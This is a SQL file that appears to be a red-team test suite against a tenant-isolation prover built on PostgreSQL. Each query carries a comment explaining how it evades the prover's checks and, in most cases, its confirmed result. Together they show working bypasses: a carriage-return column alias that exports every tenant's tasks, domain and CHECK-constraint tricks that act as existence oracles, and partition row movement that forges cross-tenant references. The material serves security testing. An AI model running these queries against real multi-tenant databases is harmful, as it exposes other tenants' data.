-- Round 3, by a third attacker who read the proof's code: the node reader, the lexer, domains and types built on
-- them, partition row movement. Each comment says how it escapes (WHY: where the proof missed it).

-- name: ExportEveryTenantsTasksThroughCrAlias :one
-- WHY: NodeTree.next()/isSpace (NodeTree.java:206-232) ends a token at '\r', which PostgreSQL's outToken leaves
-- unescaped and pg_strtok does not split on. The column alias is U&"export<CR>:expr<CR><>", so the target entry
-- arrives as `:expr {FUNCEXPR ...} :resno 1 :resname export\r:expr\r<> ...` and NodeTree reads a second field
-- `:expr <>` that replaces the first (LinkedHashMap.put): the call disappears from the parsed plan AND from the
-- parsed rewritten tree, so TenantProof.checkFunctions/checkFunctionsIn never see query_to_xml (or any function
-- in a select or RETURNING list). The same trick forges any TargetEntry field written before resname (expr,
-- resno), and through a CTE name (`:ctename` comes after `:rtekind` in RANGETBLENTRY) an RTE's rtekind/relid.
-- CONFIRMED on PostgreSQL 17: accepted, no tenant parameter; returns the XML of every tenant's tasks (43 rows
-- with B-SECRET in the seeded database).
SELECT query_to_xml('SELECT tenant_id, id, title, assignee FROM tasks', true, false, '') AS U&"export\000D:expr\000D<>";

-- name: TaskTitleOfAnyTenantThroughCrAlias :one
-- WHY: the same NodeTree '\r' split hides a SECURITY DEFINER function of the schema (task_title, refused when
-- the alias is plain): TenantProof.checkFunction is never reached. CONFIRMED: with $1 = B's task id
-- bbbbbbbb-0000-0000-0002-000000000001 it returns 'B-SECRET task 1'.
SELECT task_title($1) AS U&"title\000D:expr\000D<>";

-- ---------------------------------------------------------------------------------------------------------------
-- 2. The SQL that runs is not the SQL that was proved: dbkit's lexer and pgjdbc's disagree about '$'.
-- ---------------------------------------------------------------------------------------------------------------

-- name: TaskExistsInAnyTenantByInputFunction :one
-- WHY: TenantProof.checkFunctionsIn flags a domain only when a node's resulttype/paramtype/consttype/vartype IS
-- the domain; pg_input_is_valid names the type as text and runs its input function (domain_in -> CHECK ->
-- task_exists); pg_input_is_valid / pg_input_error_info are not in UNSAFE_BUILTINS either.
-- CONFIRMED: true for B's task id bbbbbbbb-0000-0000-0002-000000000001, false for an unused id.
SELECT pg_input_is_valid($1, 'known_task') AS exists_somewhere;

-- name: TaskExistsInAnyTenantByArrayCast :one
-- WHY: TenantProof.checkFunctionsIn/isUnsafeDomain: the cast is a CoerceViaIO whose resulttype is _known_task
-- (the array type, not the domain); array_in runs the element domain's CHECK.
-- CONFIRMED: 1 for '{bbbbbbbb-0000-0000-0002-000000000001}', "violates check constraint known_task_check" for an
-- unused id.
SELECT cardinality($1::text::known_task[]) AS n;

-- name: TaskExistsInAnyTenantByRecordColumn :many
-- WHY: TenantProof.checkFunctionsIn: the domain is only in RangeTblFunction.funccoltypes (a column definition
-- list), not in a type field the proof reads; jsonb_to_record coerces the value to known_task (its CHECK runs)
-- even though the column is never referenced. CONFIRMED: a row for B's task id, the CHECK error otherwise.
SELECT 1 AS one FROM jsonb_to_record($1::jsonb) AS x(t known_task);

-- name: TaskExistsInAnyTenantByJsonValue :one
-- WHY: TenantProof.checkFunctionsIn: JSON_VALUE ... RETURNING known_task keeps the type in JsonReturning.typid
-- (same for JSON_TABLE's COLUMNS (t known_task PATH '$.t')). CONFIRMED: true for B's task id, the CHECK error
-- otherwise ($1 = '{"t": "<id>"}').
SELECT JSON_VALUE($1::jsonb, '$.t' RETURNING known_task) IS NOT NULL AS exists_somewhere;

-- ---------------------------------------------------------------------------------------------------------------
-- 5. Partition row movement re-inserts columns whose foreign keys the proof never checked.
-- ---------------------------------------------------------------------------------------------------------------

-- name: MoveDocumentToNotes :execrows
-- WHY: TenantProof.checkWrite (UPDATE) -> checkAssignments -> checkReferences(onlyColumns = the SET columns):
-- only `kind` is assigned, so owner_ref is not checked, but changing the partition key moves the row into
-- documents_note, which re-inserts every column and runs documents_note_owner_ref_fkey (owner_ref -> tasks(id),
-- without tenant_id) on the value step 1 planted. "The row's own unchanged value" is owned only if it was checked
-- against that key when written, and it was written into a partition without it.
-- CONFIRMED: as tenant A, after step 1 with B's task id the update succeeds and A's note now references B's task
-- (B can no longer delete it: "is still referenced from table documents_note"); with an unused id it fails with
-- "violates foreign key constraint documents_note_owner_ref_fkey": an existence oracle for other tenants' tasks.
UPDATE documents SET kind = 'note' WHERE tenant_id = $1 AND id = $2;

-- ---------------------------------------------------------------------------------------------------------------
-- 6. With schema-round3.sql: schema code that runs where the plan shows only built-ins.
-- ---------------------------------------------------------------------------------------------------------------

-- name: TaskExistsInAnyTenantByRangeInput :one
-- WHY: TenantProof.checkFunctionsIn refuses operators >= 16384 (opno/sortop/...Operators) and functions of the
-- schema, but a range type's subtype operator class (uuid_probe_range uses evil.uuid_probe_ops, whose support
-- function evil.uuid_cmp_probe reads tasks) is called by range_in, range_cmp/range_eq, sorts and hashes of the
-- range: the plan only has a CoerceViaIO to uuid_probe_range (built-in range_in). Needs schema-round3.sql.
-- CONFIRMED: '[<B task id>,ffffffff-ffff-ffff-ffff-ffffffffffff]' fails with division by zero inside
-- uuid_cmp_probe, an unused id returns the range.
SELECT $1::text::uuid_probe_range AS r;

-- name: TaskExistsInAnyTenantByDomainOverDomain :one
-- WHY: TenancyFacts.load's unsafeDomains lists only domains that have a CHECK themselves; known_task_ref (a domain
-- over known_task, schema-round3.sql) has none, but CoerceToDomain(known_task_ref) runs known_task's CHECK too.
-- CONFIRMED: B's task id passes, an unused id fails with "value for domain known_task_ref violates check
-- constraint known_task_check".
SELECT $1::uuid::known_task_ref AS t;

-- name: TaskExistsInAnyTenantByCompositeInput :one
-- WHY: TenantProof.checkFunctionsIn: task_pointer (schema-round3.sql) is a composite type with a known_task
-- attribute; its input (record_in, via CoerceViaIO) runs the CHECK. CONFIRMED: true for '(<B task id>)', the
-- CHECK error for an unused id.
SELECT ($1::text::task_pointer) IS NOT NULL AS ok;
